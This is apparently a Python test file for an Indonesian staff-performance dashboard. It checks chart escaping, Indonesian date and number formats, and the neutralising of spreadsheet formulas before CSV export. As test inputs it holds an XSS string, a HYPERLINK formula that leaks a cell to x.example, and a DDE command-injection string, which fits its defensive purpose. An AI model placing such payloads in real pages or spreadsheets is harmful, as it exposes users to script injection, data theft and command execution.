"""Tables and charts as people see them: Indonesian formats, names shown exactly as typed."""

from __future__ import annotations

from datetime import date

import pandas as pd
import pytest

from ekinerja.queries import buckets, charts, display
from ekinerja.texts import analytics as t

HOSTILE = '<img src=x onerror="alert(1)"><a href="javascript:alert(2)">x</a>'


def test_trace_names_from_people_are_escaped_for_plotly() -> None:
    frame = pd.DataFrame({
        "bucket": [date(2026, 10, 5), date(2026, 10, 12)], "label": [HOSTILE, HOSTILE],
        "punctuality": [0.5, 0.75],
    })  # fmt: skip
    fig = charts.lines(frame, "punctuality", "rate", buckets.WEEK, "y", group="label")
    (trace,) = fig.data
    assert "<" not in trace.name and "&lt;img" in trace.name
    assert "<img" not in trace.hovertemplate and "<a " not in trace.hovertemplate
    assert list(trace.y) == [50.0, 75.0]  # rates are drawn in percent
    assert fig.layout.separators == ",."


def test_hover_texts_use_indonesian_dates_and_numbers() -> None:
    frame = pd.DataFrame({"bucket": [date(2026, 10, 5)], "late_per_day": [1234.4]})
    fig = charts.lines(frame, "late_per_day", "minutes", buckets.DAY, "y")
    assert fig.data[0].text[0] == "Senin, 5 Oktober 2026: 1.234 menit"
    assert charts.bucket_label(date(2026, 10, 5), buckets.WEEK) == "Minggu mulai 5 Oktober 2026"
    assert charts.bucket_label(date(2026, 10, 1), buckets.MONTH) == "Oktober 2026"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            '=HYPERLINK("http://x.example/?d="&A2,"y")',
            '\'=HYPERLINK("http://x.example/?d="&A2,"y")',
        ),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("Rapat koordinasi", "Rapat koordinasi"),
        (HOSTILE, HOSTILE),  # the grid shows text as text; only formulas are defused
    ],
)
def test_free_text_in_grids_is_defused_for_the_csv_download(text: str, shown: str) -> None:
    queue = pd.DataFrame({
        "id": [7], "version": [1], "nip": ["198501012010011001"], "name": [text], "unit": ["Unit"],
        "work_date": [date(2026, 10, 5)], "minutes": [1234], "description": [text],
        "submitted_at": [pd.Timestamp("2026-10-05 10:00", tz="UTC")],
    })  # fmt: skip
    table = display.queue_table(queue)
    row = table.iloc[0]
    assert row[t.QUEUE_COLUMNS["description"]] == shown
    assert row[t.QUEUE_COLUMNS["name"]] == shown
    assert row[t.QUEUE_COLUMNS["minutes"]] == "1.234"
    assert row[t.QUEUE_COLUMNS["submitted_at"]] == "05-10-2026 17:00"  # WIB
    assert row[t.QUEUE_COLUMNS["work_date"]] == "5 Oktober 2026"


def test_negative_numbers_stay_numbers_in_the_rater_table() -> None:
    frame = pd.DataFrame({
        "rater_id": [1], "nip": ["1"], "name": ["-Budi"], "unit": ["U"], "n": [12], "mean": [1.0],
        "unit_mean": [2.19], "gap": [-1.19], "z": [-40.0], "verdict": ["keras"],
    })  # fmt: skip
    row = display.bias_table(frame).iloc[0]
    assert row[t.BIAS_COLUMNS["gap"]] == "-1,19"
    assert row[t.BIAS_COLUMNS["name"]] == "'-Budi"
    assert row[t.BIAS_COLUMNS["verdict"]] == "Selalu keras"
